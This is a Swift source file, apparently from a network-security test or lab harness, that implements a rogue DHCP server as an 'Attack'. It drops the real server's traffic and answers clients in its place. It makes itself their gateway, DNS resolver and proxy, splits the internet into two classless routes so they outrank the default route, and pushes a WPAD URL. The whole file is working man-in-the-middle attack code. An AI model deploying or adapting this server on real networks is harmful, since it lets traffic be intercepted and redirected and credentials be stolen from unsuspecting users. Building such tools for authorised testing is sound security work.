import ApplicationDecoding
import FrameBuilding
package import PacketDecoding

/// A DHCP server that answers in the place of the real one, and makes itself router and resolver.
///
/// It tells everything that a client might act upon, asked for or not: a host name, a domain, routes to all of the
/// internet that go before any other (RFC 3442), a proxy.
package struct RogueLeases: Attack {
    package let name = "a rogue DHCP server"
    package let station = StationIdentity.rogueServer
    package let rules = ["udp dport 67 drop"]
    package let listens = true

    /// The address that it leases, which the real server never would.
    package static let lease = IPv4Address(rawValue: 0x0a02_01d2)
    /// The name that it gives to its clients.
    package static let hostName = "pwned"
    /// The domain that it has its clients search.
    package static let domain = "hostile.test"

    /// Told of each lease: the address, and the client's hardware address.
    private let onLease: @Sendable (IPv4Address, MACAddress) -> Void
    /// Told of each message of a client, whatever it asks for.
    private let onMessage: @Sendable () -> Void

    /// Creates a server that has leased nothing.
    package init(
        onLease: @escaping @Sendable (IPv4Address, MACAddress) -> Void = { _, _ in },
        onMessage: @escaping @Sendable () -> Void = {}
    ) {
        (self.onLease, self.onMessage) = (onLease, onMessage)
    }

    package mutating func hear(_ frame: HeardFrame) -> [[UInt8]] {
        guard case .udp(let datagram)? = frame.content.transport, datagram.destinationPort == 67,
            case .dhcpv4(let asked) = Application.decode(frame.content, frame.bytes.span), asked.operation == 1
        else { return [] }
        onMessage()
        switch asked.messageType {
        case .discover: return [answer(asked, .offer)]
        case .request:
            onLease(Self.lease, asked.clientHardware)
            return [answer(asked, .acknowledge)]
        case .inform: return [answer(asked, .acknowledge)]
        default: return []
        }
    }

    private func answer(_ asked: DHCPv4, _ type: DHCPv4.MessageType) -> [UInt8] {
        let isInform = asked.messageType == .inform
        let address = isInform ? asked.clientAddress : Self.lease
        var message: [UInt8] = [2, 1, 6, 0] + bytes(asked.transaction) + [0, 0] + bytes(asked.flags)
        message += bytes(asked.clientAddress.rawValue) + bytes(isInform ? UInt32(0) : address.rawValue)
        message += bytes(station.address.rawValue) + bytes(UInt32(0))
        message += asked.clientHardware.bytes + Array(repeating: 0, count: 10 + 64 + 128) + [0x63, 0x82, 0x53, 0x63]
        for (code, data) in options(type) { message += [code, UInt8(data.count)] + data }
        let wantsBroadcast = asked.flags & 0x8000 != 0
        return station.frames.udp(
            to: Endpoint(address: .v4(wantsBroadcast ? .broadcast : address), port: 68),
            from: 67,
            message + [255],
            to: wantsBroadcast ? .broadcast : asked.clientHardware
        )
    }

    private func options(_ type: DHCPv4.MessageType) -> [(UInt8, [UInt8])] {
        let own = bytes(station.address.rawValue)
        var search: [UInt8] = []
        for label in Self.domain.split(separator: ".") { search += [UInt8(label.utf8.count)] + Array(label.utf8) }
        return [
            (53, [type.rawValue]), (54, own), (51, bytes(UInt32(3600))), (1, [255, 255, 255, 0]), (3, own), (6, own),
            (42, own), (12, Array(Self.hostName.utf8)), (15, Array(Self.domain.utf8)), (119, search + [0]),
            // Each half of the internet, so that both are longer than a default route.
            (121, [1, 0] + own + [1, 128] + own), (252, Array("http://wpad.\(Self.domain)/wpad.dat".utf8)),
        ]
    }
}
